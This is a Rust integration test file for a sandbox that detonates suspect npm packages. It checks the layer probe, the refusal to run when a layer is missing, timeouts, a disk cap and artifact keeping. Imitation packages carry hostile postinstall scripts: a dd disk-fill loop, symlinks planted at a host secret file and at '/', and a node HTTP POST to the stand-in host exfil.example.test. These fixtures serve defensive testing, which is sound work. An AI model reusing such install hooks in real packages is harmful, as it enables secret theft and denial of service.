//! The sandbox's command-line surface: `ossprey sandbox check`, the refusal to detonate
//! when a required layer is missing, `--timeout`, `--keep-artifacts` (and its symlink
//! safety), the size cap on the package's writable directories, and the text output's
//! dynamic section.
//!
//! Needs root (and for the `analyze` tests the provisioned runtime); each test prints
//! why it skips otherwise. Safety: the imitation packages only reach
//! `exfil.example.test` through the sandbox's sinkhole; every analysed phase's report is
//! asserted to have had only `lo`.

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use common::{analyze, assert_sealed, is_root, report, runtime_dir_or_skip};
use ossprey_testkit::archives::tar_gz;
use serde_json::{Value, json};

fn ossprey() -> &'static str {
    env!("CARGO_BIN_EXE_ossprey")
}

/// An npm tarball named `name` whose postinstall runs `script` with `sh -c`.
fn npm_package(dir: &Path, name: &str, script: &str) -> PathBuf {
    let manifest = json!({
        "name": name,
        "version": "1.0.0",
        "main": "index.js",
        "scripts": {"postinstall": script}
    });
    let bytes = tar_gz(&[
        (
            "package/package.json",
            serde_json::to_vec_pretty(&manifest).unwrap().as_slice(),
        ),
        ("package/index.js", b"module.exports = () => 1;\n"),
    ]);
    let path = dir.join(format!("{name}-1.0.0.tgz"));
    std::fs::write(&path, bytes).unwrap();
    path
}

/// Runs the install phase of `tgz` with a JSON report and the `extra` flags (caches
/// under `dir`); returns the report after checking that the phase ran sealed.
fn analyze_install(runtime: &Path, dir: &Path, tgz: &Path, extra: &[&str]) -> Value {
    let mut args = vec![
        tgz.to_str().unwrap(),
        "--format",
        "json",
        "--phases",
        "install",
    ];
    args.extend_from_slice(extra);
    let r = report(&analyze(runtime, &dir.join("cache"), &args));
    assert_sealed(&r["dynamic"]["install"]);
    r
}

#[test]
fn sandbox_check_probes_every_layer_and_exits_0_here() {
    if !is_root() {
        eprintln!("SKIP sandbox_check: needs root (CI runs as root)");
        return;
    }
    let out = Command::new(ossprey())
        .args(["sandbox", "check", "--format", "json"])
        .output()
        .unwrap();
    let check: Value = serde_json::from_slice(&out.stdout).unwrap();
    let layers = check["layers"].as_array().unwrap();
    let get = |n: &str| {
        layers
            .iter()
            .find(|l| l["name"] == n)
            .unwrap_or_else(|| panic!("{n} missing: {check:#}"))
    };
    for n in [
        "user_namespace",
        "mount_namespace",
        "pid_namespace",
        "network_namespace",
        "ipc_namespace",
        "uts_namespace",
        "seccomp",
        "ptrace_tracer",
        "nftables_netns",
        "sinkhole",
    ] {
        assert_eq!(get(n)["required"], true, "{n}");
        assert_eq!(get(n)["ok"], true, "{n}: {:#}", get(n));
    }
    for n in [
        "landlock",
        "cgroup_memory",
        "cgroup_pids",
        "runtime",
        "debootstrap",
    ] {
        get(n);
    }
    assert!(
        get("landlock")["detail"]
            .as_str()
            .unwrap()
            .contains("ABI version")
    );
    assert_eq!(out.status.code(), Some(0), "{check:#}");

    let text = Command::new(ossprey())
        .args(["sandbox", "check"])
        .output()
        .unwrap();
    let text = String::from_utf8(text.stdout).unwrap();
    assert!(text.contains("OK       seccomp"), "{text}");
    assert!(text.contains("the sandbox can run on this host"), "{text}");
}

/// Runs `ossprey ARGS` in a child user namespace whose `user.max_user_namespaces` is 0:
/// a host where the sandbox's first layer is missing.
fn without_user_namespaces(args: &[&str], cache: &Path) -> Option<std::process::Output> {
    if !is_root() || !Path::new("/usr/bin/unshare").exists() {
        eprintln!("SKIP: needs root and /usr/bin/unshare to build a host without user namespaces");
        return None;
    }
    let out = Command::new("/usr/bin/unshare")
        .args(["-U", "-r", "sh", "-c"])
        .arg("echo 0 > /proc/sys/user/max_user_namespaces && exec \"$0\" \"$@\"")
        .arg(ossprey())
        .args(args)
        .env("OSSPREY_CACHE_DIR", cache)
        .env("OSSPREY_RUNTIME_DIR", cache.join("no-runtime"))
        .env("OSSPREY_NPM_URL", "http://127.0.0.1:9")
        .env("OSSPREY_PYPI_URL", "http://127.0.0.1:9")
        .output()
        .unwrap();
    Some(out)
}

#[test]
fn without_user_namespaces_check_exits_2_and_analyze_refuses_to_detonate() {
    let dir = tempfile::tempdir().unwrap();
    let Some(out) = without_user_namespaces(&["sandbox", "check"], dir.path()) else {
        return;
    };
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(2), "{text}");
    assert!(text.contains("MISSING  user_namespace"), "{text}");
    assert!(
        text.contains("the sandbox cannot run on this host"),
        "{text}"
    );

    let tgz = npm_package(dir.path(), "imitation-refused", "touch /tmp/ran");
    let out = without_user_namespaces(
        &["analyze", tgz.to_str().unwrap(), "--format", "json", "-q"],
        dir.path(),
    )
    .unwrap();
    let r = report(&out);
    assert_eq!(out.status.code(), Some(2), "{r:#}");
    assert_eq!(r["error"]["code"], "sandbox-unavailable", "{r:#}");
    assert!(
        r["error"]["message"]
            .as_str()
            .unwrap()
            .contains("user_namespace"),
        "{r:#}"
    );
    // Static analysis still ran; the runtime was not built for nothing.
    assert_eq!(r["package"]["name"], "imitation-refused");
    assert!(!dir.path().join("no-runtime").exists());
}

#[test]
fn timeout_flag_bounds_each_phase() {
    let Some(runtime) = runtime_dir_or_skip("timeout_flag_bounds_each_phase") else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let tgz = npm_package(dir.path(), "imitation-sleeper", "sleep 600");
    let started = Instant::now();
    let r = analyze_install(&runtime, dir.path(), &tgz, &["--timeout", "2"]);
    let install = &r["dynamic"]["install"];
    assert_eq!(install["status"], "timeout", "{install:#}");
    assert!(install["duration_ms"].as_u64().unwrap() < 2_000 + 5_000);
    assert!(started.elapsed() < Duration::from_secs(20));
}

#[test]
fn disk_fill_stops_at_the_scratch_cap() {
    let Some(runtime) = runtime_dir_or_skip("disk_fill_stops_at_the_scratch_cap") else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    // Writes 4 MiB files until the disk is full (dd's error goes to stderr: /tmp is on
    // the same capped tmpfs, full too), then reports the filesystem it filled.
    let script = "i=0; while dd if=/dev/zero of=$HOME/fill$i bs=1M count=4; \
                  do i=$((i+1)); done; df -k $HOME | tail -1; \
                  du -sk $HOME";
    let tgz = npm_package(dir.path(), "imitation-filler", script);
    let r = analyze_install(
        &runtime,
        dir.path(),
        &tgz,
        &["--timeout", "30", "--scratch-mib", "16"],
    );
    let install = &r["dynamic"]["install"];
    assert_eq!(install["status"], "completed", "{install:#}");
    let stderr = install["stderr"]["text"].as_str().unwrap();
    assert!(stderr.contains("No space left"), "stderr: {stderr}");
    let stdout = install["stdout"]["text"].as_str().unwrap();
    // df of $HOME inside: the 16 MiB tmpfs (16384 KiB), not the host's disk.
    let df = stdout
        .lines()
        .find(|l| l.starts_with("tmpfs") || l.contains("16384"))
        .unwrap_or_else(|| panic!("no df line for a 16 MiB tmpfs: {stdout}"));
    assert!(df.split_whitespace().nth(1) == Some("16384"), "{df}");
    let used_kib: u64 = stdout
        .lines()
        .filter_map(|l| {
            let mut w = l.split_whitespace();
            let n = w.next()?.parse().ok()?;
            w.next()?.starts_with("/home/").then_some(n)
        })
        .next()
        .unwrap_or_else(|| panic!("no du line: {stdout}"));
    assert!(used_kib <= 16 * 1024, "{used_kib} KiB written");
    assert!(
        !r["dynamic"]["notes"]
            .to_string()
            .contains("not size-capped"),
        "{:#}",
        r["dynamic"]["notes"]
    );
}

#[test]
fn keep_artifacts_keeps_traffic_and_written_files_but_never_follows_planted_symlinks() {
    let Some(runtime) = runtime_dir_or_skip("keep_artifacts_keeps_traffic_and_written_files")
    else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    // A host file the "package" points a symlink at (it does not exist inside the
    // sandbox; on the host, following the link would copy it).
    let secret = dir.path().join("host-secret.txt");
    let marker = format!("HOST-SECRET-{}", std::process::id());
    std::fs::write(&secret, &marker).unwrap();
    let script = format!(
        "echo dropped > $HOME/dropped.txt; ln -s {} $HOME/steal; ln -s / $HOME/root; \
         node -e \"require('http').request({{host:'exfil.example.test',path:'/collect',method:'POST'}},r=>r.resume()).on('error',()=>{{}}).end('k=v')\"",
        secret.display()
    );
    let tgz = npm_package(dir.path(), "imitation-keeper", &script);
    let keep = dir.path().join("artifacts");
    let r = analyze_install(
        &runtime,
        dir.path(),
        &tgz,
        &["--keep-artifacts", keep.to_str().unwrap()],
    );
    assert_eq!(r["dynamic"]["install"]["status"], "completed", "{r:#}");
    let pkg = keep.join("imitation-keeper-1.0.0");
    let files: Value =
        serde_json::from_slice(&std::fs::read(pkg.join("files.json")).unwrap()).unwrap();
    let list = files.as_array().unwrap();
    let steal = list
        .iter()
        .find(|f| f["path"].as_str().unwrap().ends_with("/steal"))
        .unwrap_or_else(|| panic!("symlink not recorded: {files:#}"));
    assert_eq!(steal["kind"], "symlink");
    assert_eq!(steal["target"], secret.display().to_string());
    assert!(
        list.iter()
            .any(|f| f["path"].as_str().unwrap().ends_with("/dropped.txt")
                && f["copied_to"].is_string()),
        "{files:#}"
    );
    let mut saw_post = false;
    for entry in walk(&pkg) {
        let meta = std::fs::symlink_metadata(&entry).unwrap();
        assert!(!meta.file_type().is_symlink(), "{}", entry.display());
        if meta.is_file() {
            let bytes = std::fs::read(&entry).unwrap();
            let text = String::from_utf8_lossy(&bytes);
            assert!(
                !text.contains(&marker),
                "{} holds the host file",
                entry.display()
            );
            saw_post |=
                entry.extension().is_some_and(|e| e == "bin") && text.starts_with("POST /collect");
        }
    }
    assert!(
        saw_post,
        "no raw connection bytes kept under {}",
        pkg.display()
    );
    let network = std::fs::read_to_string(pkg.join("network.json")).unwrap();
    assert!(network.contains("exfil.example.test"), "{network}");
}

#[test]
fn text_output_has_a_dynamic_section_per_phase() {
    let Some(runtime) = runtime_dir_or_skip("text_output_has_a_dynamic_section_per_phase") else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let tgz = npm_package(dir.path(), "imitation-texter", "uname -a; id");
    let out = analyze(
        &runtime,
        &dir.path().join("cache"),
        &[tgz.to_str().unwrap(), "--phases", "install,import", "-q"],
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("  dynamic:"), "{text}");
    assert!(text.contains("    install  completed in "), "{text}");
    assert!(text.contains("    import   completed in "), "{text}");
    assert!(text.contains("$ uname -a"), "{text}");
    assert!(text.contains("processes,"), "{text}");
}

fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        if std::fs::symlink_metadata(&p).unwrap().is_dir() {
            out.extend(walk(&p));
        }
        out.push(p);
    }
    out
}
